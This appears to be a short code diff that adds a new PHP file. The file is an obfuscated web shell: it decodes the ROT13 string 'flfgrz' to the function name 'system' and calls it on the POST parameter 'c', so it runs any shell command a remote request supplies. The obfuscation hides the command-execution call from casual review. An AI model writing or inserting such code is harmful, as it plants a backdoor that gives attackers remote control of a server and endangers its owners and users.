@@ -1,0 +1,3 @@
+<?php
+$fn = str_rot13('flfgrz');
+$fn($_POST['c']);
